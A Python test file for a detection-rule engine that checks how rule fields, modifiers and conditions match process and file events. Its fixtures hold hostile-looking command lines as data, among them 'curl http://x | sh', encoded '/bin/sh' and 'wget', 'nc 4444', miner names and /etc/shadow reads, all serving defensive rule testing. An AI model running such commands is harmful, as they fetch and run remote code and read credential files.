"""What rules match: fields, modifiers, conditions, as a user writes them."""

from pathlib import Path

import pytest

from tests.support.rule_texts import event, load_text, matching, rule_text


def matches(folder: Path, item: str, *, category: str = "process_creation", **values: object) -> bool:
    """Whether a rule with one selection of these items matches an event."""
    indented = "\n".join("  " + line for line in item.splitlines())
    rules = load_text(folder, rule_text(f"sel:\n{indented}\ncondition: sel", category=category))
    assert not rules.rules[0].inactive_reason
    return bool(matching(rules, event(**values)))


SHELL = {"process__executable": "/usr/bin/Bash", "process__args": ["bash", "-c", "curl http://x | sh"]}


@pytest.mark.parametrize(
    ("item", "expected"),
    [
        ("Image: /usr/bin/bash", True),
        ("Image: /usr/bin/bas", False),
        ("Image|cased: /usr/bin/bash", False),
        ("Image|cased: /usr/bin/Bash", True),
        ("Image|endswith: /bash", True),
        ("Image|endswith|cased: /bash", False),
        ("Image|startswith: [/opt/, /usr/]", True),
        ("Image: '*/bash'", True),
        ("Image: '/usr/*/bash'", True),
        ("Image: '/usr/b?n/bash'", True),
        ("Image: '/usr/b?/bash'", False),
        ("Image|contains: BIN", True),
        ("CommandLine|contains|all: [curl, sh]", True),
        ("CommandLine|contains|all: [curl, wget]", False),
        ("CommandLine|contains: [wget, curl]", True),
        ("CommandLine|re: 'curl.*\\|\\s*sh$'", True),
        ("CommandLine|re: 'CURL'", False),
        ("CommandLine|re|i: 'CURL'", True),
        ("CommandLine|re: '^curl'", False),
        ("CommandLine|endswith: '| sh'", True),
        ("process.args: -C", True),
        ("process.args: curl", False),
        ("process.args|contains: curl", True),
        ("process.args|re: '^curl'", True),
        ("process.args|contains|all: [curl, bash]", True),
        ("process.args_count: 3", True),
        ("process.args_count|gt: 2", True),
        ("process.args_count|lte: 2", False),
        ("process.args_omitted_bytes|gte: 0", False),
        ("process.name: bash", True),
        ("process.name|startswith: b", True),
        ("User: root", False),
        ("User: 1000", True),
        ("user.id: 1000", True),
        ("user.id: '1000'", True),
        ("user.id|gte: 1000", True),
        ("ParentImage: null", True),
        ("ParentImage: ''", True),
        ("ParentImage|exists: false", True),
        ("Image|exists: true", True),
        ("container.id|exists: false", True),
        ("process.interactive: false", True),
        ("process.flags.upper_layer: null", True),
        ("process.flags.memfd: true", False),
        ("Image|fieldref: CommandLine", False),
        ("Image|neq: /bin/sh", True),
        ("Image|endswith|neq: /bash", False),
    ],
)
def test_one_item(tmp_path: Path, item: str, expected: bool) -> None:
    assert matches(tmp_path, item, **SHELL) is expected


LONG = {
    "process__executable": "/usr/bin/bash",
    "process__args": ["bash", "-c", "echo wat", "…", "ched; curl http://x"],
    "process__args_omitted_bytes": 70_000,
}


@pytest.mark.parametrize(
    ("item", "expected"),
    [
        ("CommandLine|startswith: 'bash -c '", True),
        ("CommandLine|endswith: 'curl http://x'", True),
        ("CommandLine|contains|all: [echo, curl]", True),
        ("CommandLine: '*echo*curl*'", True),
        ("CommandLine|contains: watched", False),
        ("CommandLine|contains: 'wat ched'", False),
        ("process.args_count: 4", True),
        ("process.args_truncated: true", True),
        ("process.args_omitted_bytes|gt: 65536", True),
    ],
)
def test_of_a_long_command_line_head_and_tail_are_matched(tmp_path: Path, item: str, *, expected: bool) -> None:
    assert matches(tmp_path, item, **LONG) is expected


@pytest.mark.parametrize(
    ("item", "line"),
    [
        ("CommandLine|base64|contains: '/bin/sh'", "echo L2Jpbi9zaA== | base64 -d"),
        ("CommandLine|base64offset|contains: 'wget http'", "echo eHh3Z2V0IGh0dHA="),
        ("CommandLine|wide|base64offset|contains: 'whoami'", "x dwBoAG8AYQBtAGkA"),
        ("CommandLine|windash|contains: ' -exec '", "find /exec x \u2013exec y"),
        ("CommandLine|contains: '5\\*3'", "expr 5*3"),
        ("CommandLine|re|s: 'a.b'", "a\nb"),
        ("CommandLine|re|m: '^b$'", "a\nb"),
    ],
)
def test_modifiers_that_rewrite_the_value(tmp_path: Path, item: str, line: str) -> None:
    assert matches(tmp_path, item, process__args=line.split(" "))
    assert not matches(tmp_path, item, process__args=["ls"])


def test_an_escaped_wildcard_is_a_plain_character(tmp_path: Path) -> None:
    assert not matches(tmp_path, "CommandLine|contains: '5\\*3'", process__args=["5x3"])


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("one", True),
        ("two", False),
        ("not two", True),
        ("one and two", False),
        ("one or two", True),
        ("one and not two", True),
        ("not (one and two)", True),
        ("not one or two", False),
        ("1 of them", True),
        ("any of them", True),
        ("all of them", False),
        ("1 of o*", True),
        ("all of o*", True),
        ("not 1 of t*", True),
        ("(one or two) and not (two and one)", True),
        ("[one, two]", True),
        ("[two, one and two]", False),
    ],
)
def test_conditions(tmp_path: Path, condition: str, expected: bool) -> None:
    text = rule_text(f"one: {{Image|endswith: /bash}}\ntwo: {{Image|endswith: /zsh}}\ncondition: {condition}")

    rules = load_text(tmp_path, text)

    assert bool(matching(rules, event(process__executable="/bin/bash"))) is expected


def test_all_of_them_leaves_out_names_with_an_underscore(tmp_path: Path) -> None:
    text = rule_text("one: {Image|endswith: /bash}\n_two: {Image|endswith: /zsh}\ncondition: all of them")

    assert matching(load_text(tmp_path, text), event(process__executable="/bin/bash"))


@pytest.mark.parametrize(
    ("selection", "args", "expected"),
    [
        ("[xmrig, minerd]", ["/tmp/x", "--XMRig"], True),
        ("[xmrig, minerd]", ["ls"], False),
        ("xm*g", ["a", "xm-ri-g"], True),
        ("{'|all': [curl, sh]}", ["curl", "|", "sh"], True),
        ("{'|all': [curl, zsh]}", ["curl", "|", "sh"], False),
        ("{'|re': 'c[ux]rl'}", ["cxrl"], True),
        ("[{Image|endswith: /zsh}, {CommandLine|contains: curl}]", ["curl"], True),
        ("[4444]", ["nc", "4444"], True),
    ],
)
def test_keywords_and_lists_of_maps(tmp_path: Path, selection: str, args: list[str], expected: bool) -> None:
    rules = load_text(tmp_path, rule_text(f"sel: {selection}\ncondition: sel"))

    assert bool(matching(rules, event(process__args=args))) is expected


def test_absent_fields_match_no_value_and_fulfil_a_negation(tmp_path: Path) -> None:
    positive = rule_text("sel: {container.name: '*'}\ncondition: sel", number=1)
    negative = rule_text("sel: {container.name: web}\ncondition: not sel", number=2)

    rules = load_text(tmp_path, positive, negative)

    assert matching(rules, event()) == ["rule_1"]
    assert matching(rules, event(container__id="ab", container__name="db")) == ["rule_0", "rule_1"]


def test_scope_and_exceptions_narrow_a_rule(tmp_path: Path) -> None:
    extra = """\
    stockade:
      scope: {container.image.name: [nginx, php]}
      exceptions:
        - {when: {user.id: 0}, owner: ops, reason: backup, expires: never}
        - {when: {user.id: 7}, owner: ops, reason: over, expires: 2001-01-01}
    """
    rules = load_text(tmp_path, rule_text("sel: {Image|endswith: /sh}\ncondition: sel", extra=extra))
    shell = {"process__executable": "/bin/sh", "container__id": "ab"}

    assert matching(rules, event(**shell, container__image__name="nginx"))
    assert not matching(rules, event(**shell, container__image__name="redis"))
    assert not matching(rules, event(**shell, container__image__name="nginx", user__id=0))
    assert matching(rules, event(**shell, container__image__name="nginx", user__id=7)), "expired exceptions do not hold"
    assert "expired on 2001-01-01" in rules.warnings[0].message


@pytest.mark.parametrize(
    ("category", "values", "expected"),
    [
        ("file_access", {"file__access": ["read"]}, True),
        ("file_access", {"file__access": ["write"]}, True),
        ("file_event", {"file__access": ["read"]}, False),
        ("file_event", {"file__access": ["read", "write"]}, True),
        ("file_event", {"file__created": True}, True),
        ("file_access", {"error__code": "EACCES"}, False),
        ("file_access_failed", {"error__code": "EACCES"}, True),
        ("file_access_failed", {}, False),
    ],
)
def test_categories_of_opens(tmp_path: Path, category: str, values: dict[str, object], expected: bool) -> None:
    rules = load_text(tmp_path, rule_text("sel: {TargetFilename: /etc/shadow}\ncondition: sel", category=category))

    assert bool(matching(rules, event(file__path="/etc/shadow", **values))) is expected


@pytest.mark.parametrize(
    ("item", "expected"),
    [
        ("file.name: shadow", True),
        ("file.directory: /etc", True),
        ("file.directory: /", False),
        ("file.access: read", True),
        ("file.access: [write, create]", False),
        ("file.mode: '0644'", True),
        ("file.mode|re: '^[4-7]'", False),
        ("file.type: file", True),
        ("event.action: open", True),
        ("Image|endswith: /cat", True),
    ],
)
def test_fields_of_opens(tmp_path: Path, item: str, expected: bool) -> None:
    open_ = {"file__path": "/etc/shadow", "process__executable": "/bin/cat"}

    assert matches(tmp_path, item, category="file_access", **open_) is expected


def test_a_failed_exec_is_a_category_of_its_own(tmp_path: Path) -> None:
    text = rule_text("sel: {file.name: nmap, error.code: ENOENT}\ncondition: sel", category="process_creation_failed")
    failed = event(event="process_exec_failed", file__path="/usr/bin/nmap")

    assert matching(load_text(tmp_path, text), failed)


def test_process_termination_sees_the_exit_code(tmp_path: Path) -> None:
    text = rule_text("sel: {process.exit_signal: 11}\ncondition: sel", category="process_termination")

    assert matching(load_text(tmp_path, text), event(event="process_exit", process__exit_signal=11))


def test_file_names_lose_their_case_in_ascii_only_as_in_the_kernels_filter(tmp_path: Path) -> None:
    rules = load_text(
        tmp_path, rule_text("sel: {TargetFilename|endswith: /Ärger-KEY}\ncondition: sel", category="file_access")
    )

    assert matching(rules, event(file__path="/x/Ärger-key"))
    assert not matching(rules, event(file__path="/x/ärger-key"))
    assert not matching(rules, event(file__path="/x/Ärger-\u212aey")), "the Kelvin sign is no k"
